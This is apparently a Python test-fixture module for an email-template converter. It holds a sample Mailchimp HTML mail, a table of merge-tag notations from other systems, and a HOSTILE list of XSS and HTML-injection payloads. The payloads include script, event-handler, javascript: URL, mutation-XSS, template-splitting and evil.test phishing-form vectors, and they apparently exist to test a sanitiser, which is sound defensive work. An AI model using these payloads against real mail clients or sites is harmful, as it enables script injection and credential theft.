"""Mails as other systems write them, and mails that mean harm."""

MAILCHIMP = """<!doctype html>
<html><head><title>News for *|FNAME|*</title>
<style>
  #top td.words p { color: #123456; margin: 0 0 12px }
  .words { background: #fff; }
  a:hover { color: red }
  @media only screen and (max-width: 600px) { .words { width: 100% !important } }
</style></head>
<body style="background: #eee">
<span style="display:none">Three of them&zwnj;&nbsp;</span>
<!--[if mso]><table><tr><td width="600"><![endif]-->
<table id="top" width="600" align="center"><tr><td class="words">
  <p class="lead">Hello *|FNAME|*,</p>
  *|IF:COMPANY|*<p>How is everybody at *|COMPANY|*?</p>*|ELSE:|*<p>How are you?</p>*|END:IF|*
  <a href="https://shop.test/?u=*|EMAIL|*">Look</a>
  <p>*|LOYALTY|* points</p>
  <a href="*|UNSUB|*">No more of this</a>
</td></tr></table>
<img src="https://counts.test/o.gif" width="1" height="1">
</body></html>"""
#: How a system names a first name → what it becomes here.
NOTATIONS = {
    "{{ first_name }}": "{{ first_name }}",
    "{{first_name | default: 'you'}}": "{{ first_name | default: 'you' }}",
    "{{ contact.firstname }}": "{{ first_name }}",
    "{{contact.firstname|there}}": "{{ first_name | default: 'there' }}",
    '{{ contact.FIRSTNAME | default : "friend" }}': "{{ first_name | default: 'friend' }}",
    "{{ person.first_name|default:'friend' }}": "{{ first_name | default: 'friend' }}",
    "{{lead.First Name:default=Friend}}": "{{ first_name | default: 'Friend' }}",
    "{{ user.first_name | upcase }}": "{{ first_name | upcase }}",
    "{{{firstName}}}": "{{ first_name }}",
    "*|FNAME|*": "{{ first_name }}",
    "%FIRST_NAME%": "{{ first_name }}",
    "%FIRSTNAME%": "{{ first_name }}",
    "%%first_name%%": "{{ first_name }}",
    "##firstname##": "{{ first_name }}",
    "[[firstname]]": "{{ first_name }}",
    "[FNAME]": "{{ first_name }}",
    "[firstname,fallback=friend]": "{{ first_name | default: 'friend' }}",
    "{!Contact.FirstName}": "{{ first_name }}",
    "${firstName}": "{{ first_name }}",
    "<%= @user.first_name %>": "{{ first_name }}",
    "&lt;%= first_name %&gt;": "{{ first_name }}",
    "%7B%7Bfirst_name%7D%7D": "{{ first_name }}",
    "{{ contact['First Name'] }}": "{{ first_name }}",
}
#: What people write that no system fills.
WORDS = ("100% sure", "[IMPORTANT]", "width:50%;height:50%", "a # b # c", "${", "*|", "Tom & Jerry")
#: What must not be left of a mail, in any way that a browser reads.
HOSTILE = (
    "<script>steal()</script>Hi",
    "<scr<script>ipt>steal()</script>Hi",
    "<img src=x onerror=steal()>Hi",
    "<svg><script>steal()</script></svg>Hi",
    "<svg onload=steal()>Hi",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table>"
    "</mtext></math>Hi",
    "<a href='javascript:steal()'>Hi</a>",
    "<a href='java\tscript:steal()'>Hi</a>",
    "<a href='&#106;avascript:steal()'>Hi</a>",
    "<a href='data:text/html,<script>steal()</script>'>Hi</a>",
    "<a href='vbscript:steal()'>Hi</a>",
    "<iframe src='https://evil.test'></iframe>Hi",
    "<iframe srcdoc='<script>steal()</script>'></iframe>Hi",
    "<object data='evil.swf'></object><embed src='evil.swf'>Hi",
    "<form action='https://evil.test'><input name=password><button>Hi</button></form>",
    "<base href='https://evil.test/'><a href='page'>Hi</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>Hi",
    "<link rel=stylesheet href='https://evil.test/x.css'>Hi",
    "<style>@import 'https://evil.test/x.css'; p{background:url(https://evil.test/y)}</style><p>Hi",
    "<p style='background:url(javascript:steal())'>Hi</p>",
    "<p style='width:expression(steal())'>Hi</p>",
    "<p style='behavior:url(evil.htc);-moz-binding:url(evil.xml)'>Hi</p>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>Hi</div>",
    "<!--><script>steal()</script-->Hi",
    "<!--[if gte IE 5]><script>steal()</script><![endif]-->Hi",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>Hi</p></noscript>",
    "<textarea></textarea><img src=x onerror=steal()>Hi",
    "<title></title><script>steal()</script>Hi",
    "<template><img src=x onerror=steal()></template>Hi",
    "<p title='\"><script>steal()</script>'>Hi</p>",
    "<p {{ x }} onclick=steal()>Hi</p>",
    "<img src='{{ \"javascript:steal()\" }}'>Hi",
    "<a href='{% if x %}javascript:steal(){% endif %}'>Hi</a>",
    "<p title='{% if x %}' onclick='steal()' a='{% endif %}'>Hi</p>",
    "<a href='java{{ x }}script:steal()'>Hi</a>",
    "<a href='*|IF:X|*javascript:steal()*|END:IF|*'>Hi</a>",
    "<a href='{{{ x }}}javascript:steal()'>Hi</a>",
    "<!-- {% if x %} --><script>steal()</script>Hi",
    "<table><tr><td><script>steal()</script><td>Hi<img src=x onerror=steal()></table>",
    "<video src='https://evil.test/x.mp4' onerror=steal()></video>Hi",
    "<input autofocus onfocus=steal()>Hi",
    "<details open ontoggle=steal()>Hi</details>",
    "<marquee onstart=steal()>Hi</marquee>",
    "<p style='{{ x }}'>Hi</p>",
)
